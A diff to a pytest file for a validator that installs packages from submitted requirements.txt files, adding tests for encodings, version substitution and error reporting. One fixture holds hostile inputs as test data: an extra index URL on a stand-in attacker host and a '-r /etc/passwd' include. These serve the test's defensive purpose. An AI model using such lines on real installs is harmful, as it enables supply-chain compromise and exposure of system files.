@@ -6,6 +6,7 @@ from pathlib import Path
 
 import pytest
 
+from tests.running.environments.conftest import NEEDED
 from validator.evidence import FileEntry, Layout
 from validator.plan import RunEnvironment
 from validator.running.environments import choosing, making, record, submitted
@@ -59,7 +60,7 @@ def choice() -> choosing.Choice:
 
 
 def handed_in(tmp_path: Path, text: str, name: str = "requirements.txt") -> tuple[Layout, Path]:
-    (tmp_path / name).parent.mkdir(exist_ok=True)
+    (tmp_path / name).parent.mkdir(exist_ok=True, parents=True)
     (tmp_path / name).write_text(text)
     return Layout(files=(FileEntry(path=name, bytes=1, sha256="0", kind="text"),)), tmp_path
 
@@ -76,12 +77,54 @@ def test_a_submissions_list_is_laid_over_the_rubrics(envs, wheels, tmp_path, cho
     assert found.interpreter is not None
 
 
+REAL = """\
+# This file may be used to create an environment
+--extra-index-url http://evil.invalid/simple
+alpha @ file:///C:/Users/somebody/alpha-1.0
+-e git+https://example.invalid/me/beta.git#egg=beta
+-r /etc/passwd
+gamma==1.0+cu118 ; python_version >= "3.8"
+delta==0.1
+nosuch==4
+nosuchatall
+"""
+
+
+def test_what_can_be_had_of_a_list_from_real_life_is_and_the_rest_is_told(*, envs, wheel, tmp_path, choice):
+    folder = tmp_path / "wheels"
+    folder.mkdir()
+    for name, version in {**NEEDED, "alpha": "2.0", "beta": "1.0", "gamma": "1.0", "delta": "1.0"}.items():
+        wheel(folder, name, version)
+    layout, unpacked = handed_in(tmp_path / "in", REAL.replace("\n", "\r\n"))
+    found = for_submission(choice, layout, unpacked, folder)
+    assert {"alpha==2.0", "beta==1.0", "gamma==1.0", "delta==1.0"} <= set(found.frozen)
+    for words in (
+        "made from the submission's requirements.txt laid over the rubric's list; not as written: ",
+        'gamma==1.0+cu118; python_version >= "3.8": gamma==1.0; python_version >= "3.8"',
+        "delta==0.1: any version",
+        "nosuch==4: left out",
+        "nosuchatall: left out",
+        "alpha by its name",
+        "and 3 more",
+    ):
+        assert words in found.why
+    assert len(record.everything(envs)) == 1
+
+
+@pytest.mark.parametrize("content", ["alpha==1.0\r\n".encode("utf-16"), b"\xef\xbb\xbfalpha==1.0\r\n"])
+def test_a_list_as_powershell_writes_it_is_installed(*, envs, wheels, tmp_path, choice, content):
+    layout, unpacked = handed_in(tmp_path, "")
+    (unpacked / "requirements.txt").write_bytes(content)
+    assert "alpha==1.0" in for_submission(choice, layout, unpacked, wheels).frozen
+
+
 @pytest.mark.parametrize(
     ("text", "reason"),
     [
-        ("alpha\n-e .\n", 'requirements.txt line 2: "-e .": installs from a folder'),
-        ("alpha==9.0\n", "could not be installed: .*alpha==9.0"),
-        ("ipykernel==1.0\n", "could not be installed: .*ipykernel"),
+        ("-e .\n", 'requirements.txt line 1: "-e .": installs from a folder'),
+        ("name: base\ndependencies:\n  - alpha=1.0=py39_0\n", "line 1: .*no name and version"),
+        ("# nothing\n", "it names no package"),
+        ("nosuch\n", "could not be installed: .*nosuch"),
     ],
 )
 def test_what_cannot_be_taken_is_told_and_the_run_goes_on(*, envs, wheels, tmp_path, choice, text, reason):
@@ -92,6 +135,13 @@ def test_what_cannot_be_taken_is_told_and_the_run_goes_on(*, envs, wheels, tmp_p
     assert re.search(reason, found.why)
     assert found.facts["run.environment.choice"] == found.why
     assert record.everything(envs) == ()
+
+
+def test_what_the_harness_needs_stands_where_a_list_asks_for_another_version(envs, wheels, tmp_path, choice):
+    layout, unpacked = handed_in(tmp_path, "ipykernel==1.0\nalpha==1.0\n")
+    found = for_submission(choice, layout, unpacked, wheels)
+    assert {"ipykernel==6.30", "alpha==1.0"} <= set(found.frozen)
+    assert found.why.endswith("not as written: ipykernel==1.0: any version")
 
 
 def test_a_build_past_its_limits_falls_back_too(envs, wheels, tmp_path, choice):
